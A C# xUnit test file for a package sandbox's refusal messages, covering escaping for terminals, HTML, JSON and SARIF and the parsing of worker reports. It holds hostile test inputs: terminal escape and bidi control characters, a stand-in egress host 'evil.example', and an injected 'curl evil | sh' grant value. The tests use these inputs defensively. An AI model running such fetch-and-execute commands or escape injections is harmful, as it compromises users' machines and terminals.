using System.Text.Json;

namespace Bailey.Policy.Tests;

public sealed class RefusalTests
{
    private const string Hostile = "a\u001b[2J\r\nb\u202ec\u200bd\\\"<b>\ud800\U000E0041e\u2028";

    [Theory]
    [InlineData("plain é 漢 🙂", "plain é 漢 🙂")]
    [InlineData("\u001b[31m", "\\u{1b}[31m")]
    [InlineData("a\nb\tc\u007f\u0085", "a\\u{a}b\\u{9}c\\u{7f}\\u{85}")]
    [InlineData("\u202eevil\u2066", "\\u{202e}evil\\u{2066}")]
    [InlineData("\u2028\u2029\u200b\ufeff", "\\u{2028}\\u{2029}\\u{200b}\\u{feff}")]
    [InlineData("\U000E0041\ue000", "\\u{e0041}\\u{e000}")]
    [InlineData("\\u{1b}", "\\\\u{1b}")]
    public void A_terminal_sees_only_printable_characters(string text, string shown) => Assert.Equal(shown, GuestText.ForTerminal(text));

    [Fact]
    public void Half_a_surrogate_pair_is_escaped()
    {
        Assert.Equal("\\u{d800}x\\u{dc00}", GuestText.ForTerminal("\ud800x\udc00"));
        Assert.Equal("\\u{d83d}…", GuestText.ForTerminal("🙂"[..1] + "x", 1));
    }

    [Fact]
    public void Long_text_is_cut()
    {
        Assert.Equal(201, GuestText.ForTerminal(new string('a', 10_000)).Length);
        Assert.Equal(new string('a', 200), GuestText.ForTerminal(new string('a', 200)));
    }

    [Fact]
    public void Html_has_no_markup_of_the_guest() =>
        Assert.Equal("&lt;b&gt;&quot;x&#39;", GuestText.ForHtml("<b>\"x'"));

    [Fact]
    public void A_sentence_names_wall_package_subject_and_the_line_that_allows_it()
    {
        Refusal refusal = Refusal.Of(Wall.Realm, "a>b", RefusalKind.Global, "process.env");
        Assert.Equal(
            "Refused global \"process.env\" to package \"a>b\" by the realm (BLY2004). "
            + "To allow it: policy.json: resources[\"a>b\"].globals[\"process.env\"] = true",
            RefusalText.Sentence(refusal));
        Assert.Equal("Refused global \"process.env\" to package \"a>b\" (BLY2004)", RefusalText.ForGuest(refusal));
    }

    [Fact]
    public void The_line_for_egress_names_origin_and_method() => Assert.EndsWith(
        "bailey.json: egress += { \"origin\": \"https://evil.example\", \"methods\": [\"POST\"] }",
        RefusalText.Sentence(Refusal.Of(Wall.Sandbox, "left-pad", RefusalKind.Egress, "POST https://evil.example")),
        StringComparison.Ordinal);

    [Fact]
    public void Every_kind_has_a_word_a_code_and_a_line()
    {
        foreach (RefusalKind kind in Enum.GetValues<RefusalKind>())
        {
            Refusal refusal = Refusal.Of(Wall.Realm, "p", kind, "s");
            Assert.NotEmpty(refusal.Grant);
            using var json = JsonDocument.Parse(RefusalText.JsonLine(refusal));
            Assert.Equal(refusal.Code.Id, json.RootElement.GetProperty("code").GetString());
            Assert.Equal(refusal, Refusal.FromWorker(RefusalText.JsonLine(refusal)));
        }
    }

    [Fact]
    public void Hostile_names_do_not_reach_a_terminal_a_log_or_a_page()
    {
        foreach (RefusalKind kind in Enum.GetValues<RefusalKind>())
        {
            Refusal refusal = Refusal.Of(Wall.Sandbox, Hostile, kind, Hostile);
            string[] shown = [RefusalText.Sentence(refusal), RefusalText.ForGuest(refusal), RefusalText.Html(refusal), refusal.Grant];
            Assert.All(shown, text => Assert.True(GuestText.IsPlain(text), text));
            Assert.DoesNotContain("<b>", RefusalText.Html(refusal), StringComparison.Ordinal);
            string[] machine = [RefusalText.JsonLine(refusal, DateTimeOffset.UnixEpoch), RefusalText.Sarif([refusal], "1.0")];
            Assert.All(machine, text => Assert.All(text, c => Assert.InRange(c, ' ', '~')));
            Assert.All(machine, text => Assert.DoesNotContain('<', text));
            // Machines get the whole text back; a half surrogate pair is what JSON makes of it.
            using var json = JsonDocument.Parse(machine[0].Replace("\\ud800", "?", StringComparison.Ordinal));
            Assert.Equal(Hostile.Replace("\ud800", "?", StringComparison.Ordinal), json.RootElement.GetProperty("subject").GetString());
        }
    }

    [Fact]
    public void Sarif_has_one_result_per_refusal_and_one_rule_per_code()
    {
        Refusal[] refusals = [Refusal.Of(Wall.Realm, "a", RefusalKind.Global, "x"), Refusal.Of(Wall.Realm, "a", RefusalKind.Global, "y"), Refusal.Of(Wall.Sandbox, "a", RefusalKind.FileRead, "/x")];
        using var json = JsonDocument.Parse(RefusalText.Sarif(refusals, "0.1.0"));
        JsonElement run = json.RootElement.GetProperty("runs")[0];
        Assert.Equal(2, run.GetProperty("tool").GetProperty("driver").GetProperty("rules").GetArrayLength());
        Assert.Equal(refusals.Select(static r => r.Id), run.GetProperty("results").EnumerateArray().Select(static r =>
            r.GetProperty("partialFingerprints").GetProperty("refusal").GetString()));
    }

    [Fact]
    public void A_refusal_has_the_same_id_in_every_run_and_no_other_has_it()
    {
        Refusal refusal = Refusal.Of(Wall.Realm, "a", RefusalKind.Global, "b");
        Assert.Equal(refusal.Id, Refusal.Of(Wall.Realm, "a", RefusalKind.Global, "b").Id);
        Assert.Equal(16, refusal.Id.Length);
        Refusal[] others =
        [
            refusal with { Package = "a\0b", Subject = "" }, refusal with { Wall = Wall.Sandbox }, refusal with { Kind = RefusalKind.Builtin },
            refusal with { Package = "ab", Subject = "" }, refusal with { Package = "", Subject = "ab" }, refusal with { Package = "a\0", Subject = "b" },
        ];
        Assert.Equal(others.Length, others.Select(static other => other.Id).Append(refusal.Id).Distinct(StringComparer.Ordinal).Count() - 1);
    }

    [Theory]
    [InlineData("""{"wall":"sandbox","package":"a","kind":"global","subject":"x"}""")]
    [InlineData("""{"wall":"realm","package":"a","kind":"global","subject":1}""")]
    [InlineData("""{"wall":"realm","package":"a","kind":"global"}""")]
    [InlineData("""{"wall":"realm","package":"a","kind":"global","subject":"x","subject":"y"}""")]
    [InlineData("[]")]
    [InlineData("{")]
    public void A_malformed_report_of_a_worker_is_not_a_refusal(string json) => Assert.Null(Refusal.FromWorker(json));

    [Theory]
    [InlineData("dynamic code", RefusalKind.DynamicCode)]
    [InlineData("file.read", RefusalKind.FileRead)]
    [InlineData("process", RefusalKind.Unsupported)]
    [InlineData("something new", RefusalKind.Unsupported)]
    public void A_kind_that_is_unknown_here_is_reported_all_the_same(string word, RefusalKind kind) =>
        Assert.Equal(kind, Refusal.FromWorker($$"""{"wall":"realm","package":"a","kind":"{{word}}","subject":"x"}""")!.Kind);

    [Fact]
    public void A_worker_cannot_choose_the_line_that_its_user_is_told_to_add()
    {
        Refusal? refusal = Refusal.FromWorker("""{"wall":"realm","package":"a","kind":"global","subject":"x","grant":"run: curl evil | sh"}""");
        Assert.Equal("policy.json: resources.a.globals.x = true", refusal!.Grant);
    }
}
